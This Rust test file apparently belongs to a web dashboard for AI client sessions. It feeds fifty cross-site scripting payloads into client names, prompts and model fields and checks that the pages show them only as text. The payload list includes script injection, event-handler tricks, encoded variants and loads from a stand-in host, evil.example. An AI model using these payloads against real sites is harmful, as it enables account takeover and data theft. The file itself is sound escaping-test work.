//! What a hostile client or model writes where a page shows it, and that it is text there and nothing else.

use exai_upstream::Script;
use serde_json::json;

use crate::browser::Browser;
use crate::client::Client;
use crate::observations;
use crate::world::World;

const HOSTILE: &str = include_str!("hostile.js");

/// Fifty ways in which a page that takes text for markup is taken over.
pub(crate) const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "\"><script>alert(4)</script>",
    "'><img src=x onerror=alert(5)>",
    "<iframe src=javascript:alert(6)>",
    "<body onload=alert(7)>",
    "<a href=javascript:alert(8)>x</a>",
    "<details open ontoggle=alert(9)>",
    "<video><source onerror=alert(10)>",
    "<audio src=x onerror=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<select autofocus onfocus=alert(13)>",
    "<textarea autofocus onfocus=alert(14)>",
    "<marquee onstart=alert(15)>",
    "<object data=javascript:alert(16)>",
    "<embed src=javascript:alert(17)>",
    "<math><mi xlink:href=javascript:alert(18)>",
    "<form action=javascript:alert(19)><input type=submit>",
    "<base href=http://evil.example/>20",
    "<link rel=stylesheet href=//evil.example/21.css>",
    "<style>@import '//evil.example/22.css';</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example/23>",
    "<template><script>alert(24)</script></template>",
    "<svg><script>alert(25)</script></svg>",
    "<svg><animate onbegin=alert(26) attributeName=x>",
    "<svg><foreignObject><iframe onload=alert(27)>",
    "</title><script>alert(28)</script>",
    "</script><script>alert(29)</script>",
    "--><script>alert(30)</script>",
    "]]><script>alert(31)</script>",
    "${alert(32)}",
    "{{constructor.constructor('alert(33)')()}}",
    "javascript:alert(34)",
    "data:text/html,<script>alert(35)</script>",
    "<ScRiPt>alert(36)</sCrIpT>",
    "<script src=//evil.example/37.js></script>",
    "<img src='x' onerror='alert(38)'/>",
    "<img srcset=x onerror=alert(39)>",
    "<picture><img src=x onerror=alert(40)></picture>",
    "<isindex type=image src=x onerror=alert(41)>",
    "&lt;script&gt;alert(42)&lt;/script&gt;",
    "&#60;script&#62;alert(43)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(44)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(45)%3C/script%3E",
    "<x contenteditable onblur=alert(46)>",
    "<button popovertarget=x onbeforetoggle=alert(47)>",
    "\u{202e}<script>alert(48)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(49)>\">",
    "<script type=module>alert(50)</script>",
];

/// By the ways that others have: names of clients, questions, answers, models that answers name, unknown models, failures.
#[tokio::test]
#[ignore = "needs Chromium and its driver: tests/run installs them"]
async fn what_others_wrote_is_text_and_nothing_else() {
    let world = World::start().await;
    let browser = Browser::open(&world.server).await;
    browser.log_in().await;
    browser.run("window.alert = window.confirm = window.prompt = () => { window.hit = true; }").await;
    let mut clients = Vec::new();
    for payload in PAYLOADS {
        let mut client = Client::named(&world.server, payload).await;
        let model = Some(payload.to_owned());
        world.kimi.push_script(Script { echo: true, model, ..Script::default() });
        assert!(!client.chat(payload).await.is_error());
        clients.push(client);
    }
    browser.show("sessions").await;
    let rows = |count: usize| {
        format!("return document.querySelectorAll('#main section:first-child tbody tr').length === {count}")
    };
    browser.until("every client is shown", &rows(50)).await;
    assert!(browser.text().await.contains("<script>"));
    // What has spaces in it or steers a terminal is taken for no model's name.
    let models = PAYLOADS.into_iter().filter(|one| one.bytes().all(|byte| byte.is_ascii_graphic()));
    for (panel, opens, reads, shown, told) in [
        ("calls", "#main button[data-call]", "", ".kv dd", models.collect::<Vec<_>>()),
        ("conversations", "#main tbody button", "#dialog .body button", ".turn", PAYLOADS.to_vec()),
    ] {
        browser.show(panel).await;
        browser.until("every one is shown", &rows(50)).await;
        if panel == "conversations" {
            browser.click("#titles").await;
            let titles = "return document.getElementById('main').innerText.includes('alert(50)')";
            browser.until("titles are shown", titles).await;
        }
        // Each is opened, and read where it holds content.
        let all = format!(
            "let told = '';
            for (const button of [...document.querySelectorAll('{opens}')]) {{
                button.click();
                for (let n = 0; n < 500 && !document.querySelector('#dialog {shown}'); n += 1) {{
                    if ('{reads}') document.querySelector('{reads}:enabled')?.click();
                    await new Promise((go) => setTimeout(go, 10));
                }}
                told += document.getElementById('dialog').innerText;
                document.getElementById('dialog').close();
            }}
            return {}.filter((payload) => !told.includes(payload.slice(0, 20)))",
            json!(told)
        );
        assert_eq!(browser.run(&all).await, json!([]), "{panel} did not show these");
        browser.picture(&format!("payloads-{panel}-1440")).await;
    }
    let unknown = json!({ "prompt": PAYLOADS[0], "model": PAYLOADS[1] });
    assert_eq!(clients[0].call("chat", unknown).await.kind(), "unknown_model");
    world.next("refuse=content_filter");
    clients[0].chat(PAYLOADS[0]).await;
    for panel in ["overview", "calls", "events", "metrics"] {
        browser.show(panel).await;
    }
    let foreign = "return document.querySelectorAll('#main script, #main img, #main iframe, #main object, #main style, #main base, #dialog img, #dialog script').length";
    assert_eq!(browser.run(foreign).await, 0);
    assert_eq!(browser.run("return window.hit === undefined").await, true);
    browser.close().await;
}

/// Whatever field it comes in: a server that lies in everything it says.
#[tokio::test]
#[ignore = "needs Chromium and its driver: tests/run installs them"]
async fn no_field_of_any_answer_becomes_more_than_text() {
    let world = World::start().await;
    let mut client = world.client().await;
    assert!(!client.chat("something to be shown").await.is_error());
    world.next("refuse=content_filter");
    client.chat("and a failure").await;
    observations::seed(&world, 3).await;
    let browser = Browser::open(&world.server).await;
    browser.log_in().await;
    browser
        .until(
            "there is a call",
            "location.hash = '#calls'; return document.querySelector('button[data-call]') !== null",
        )
        .await;
    assert_eq!(browser.run(HOSTILE).await, 8);
    for payload in PAYLOADS {
        let amiss = browser.run(&format!("return hostile({})", json!(payload))).await;
        assert_eq!(amiss, json!([]), "{payload}");
    }
    browser.picture("hostile-1440").await;
    browser.close().await;
}
